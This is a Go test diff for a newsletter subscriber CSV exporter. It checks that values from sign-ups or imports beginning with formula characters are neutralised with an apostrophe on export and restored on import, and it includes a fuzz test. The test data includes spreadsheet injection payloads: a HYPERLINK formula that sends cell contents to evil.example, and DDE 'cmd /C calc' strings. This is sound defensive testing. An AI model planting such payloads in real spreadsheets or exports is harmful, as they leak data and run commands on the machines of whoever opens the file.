@@ -2,6 +2,7 @@ package subscriber
 
 import (
 	"bytes"
+	"encoding/csv"
 	"errors"
 	"fmt"
 	"io"
@@ -329,4 +330,107 @@ func BenchmarkReadCSV(b *testing.B) {
 			b.Fatalf("%d rows, %v, %v", len(rows), rowErrs, err)
 		}
 	}
+}
+
+// hostileCells are values a public sign-up or an import can put in a cell, each of which a
+// spreadsheet would run as a formula if exported as it is, and some that only look close.
+var hostileCells = []string{
+	`=HYPERLINK("http://evil.example/?x="&A2,"Click")`,
+	"+cmd|' /C calc'!A0",
+	"@SUM(1+1)*cmd|' /C calc'!A0",
+	"-2+3",
+	"\t=1+1",
+	"\r=1+1",
+	"'=already quoted",
+	"''-twice",
+	"'plain apostrophe",
+	"''",
+	"'",
+	"O'Brien",
+	"a=b",
+	" =leading space",
+	"",
+}
+
+func TestCSVNeutralisesFormulas(t *testing.T) {
+	emails := []string{"=1+2@example.com", "-2+3@example.com", "+cmd@example.com", "'=x@example.com", "'o@example.com", "plain@example.com"}
+	var subs []newsletter.Subscriber
+	for i, name := range hostileCells {
+		subs = append(subs, newsletter.Subscriber{Email: emails[i%len(emails)], Name: name, Status: newsletter.StatusActive})
+	}
+	var buf bytes.Buffer
+	cw, err := NewCSVWriter(&buf)
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, s := range subs {
+		if err := cw.Write(s); err != nil {
+			t.Fatal(err)
+		}
+	}
+	if err := cw.Flush(); err != nil {
+		t.Fatal(err)
+	}
+	recs, err := csv.NewReader(bytes.NewReader(buf.Bytes())).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, rec := range recs {
+		for _, cell := range rec {
+			if cell != "" && formulaStart(cell[0]) {
+				t.Errorf("exported cell %q starts a formula", cell)
+			}
+		}
+	}
+	for i, want := range []string{`'=HYPERLINK("http://evil.example/?x="&A2,"Click")`, "'+cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0", "'-2+3"} {
+		if recs[i+1][1] != want {
+			t.Errorf("name cell %q, want %q", recs[i+1][1], want)
+		}
+	}
+
+	rows, rowErrs, err := readAll(&buf)
+	if err != nil || len(rowErrs) > 0 {
+		t.Fatalf("read: %v %v", err, rowErrs)
+	}
+	if len(rows) != len(subs) {
+		t.Fatalf("got %d rows, want %d", len(rows), len(subs))
+	}
+	for i, s := range subs {
+		// The reader cleans names (tabs and CRs are white space): compare with what an
+		// import of the value itself gives.
+		if rows[i].Email != s.Email || rows[i].Name != CleanName(s.Name) {
+			t.Errorf("row %d = %q %q, want %q %q", i, rows[i].Email, rows[i].Name, s.Email, CleanName(s.Name))
+		}
+	}
+}
+
+func TestRestoreCell(t *testing.T) {
+	for _, tt := range []struct{ in, want string }{
+		{"'=x", "=x"},   // neutralised by an export
+		{"''=x", "'=x"}, // a value that began with an apostrophe
+		{"'x", "'x"},    // an apostrophe no export added
+		{"'", "'"},
+		{"=x", "=x"}, // saved back by a spreadsheet, which dropped the apostrophe
+		{"'\t1", "\t1"},
+		{"O'=x", "O'=x"}, // apostrophes inside are data
+	} {
+		if got := restoreCell(tt.in); got != tt.want {
+			t.Errorf("restoreCell(%q) = %q, want %q", tt.in, got, tt.want)
+		}
+	}
+}
+
+func FuzzNeutralCell(f *testing.F) {
+	for _, s := range hostileCells {
+		f.Add(s)
+	}
+	f.Fuzz(func(t *testing.T, s string) {
+		n := neutralCell(s)
+		if n != "" && formulaStart(n[0]) {
+			t.Fatalf("neutralCell(%q) = %q starts a formula", s, n)
+		}
+		if back := restoreCell(n); back != s {
+			t.Fatalf("restoreCell(neutralCell(%q)) = %q", s, back)
+		}
+	})
 }
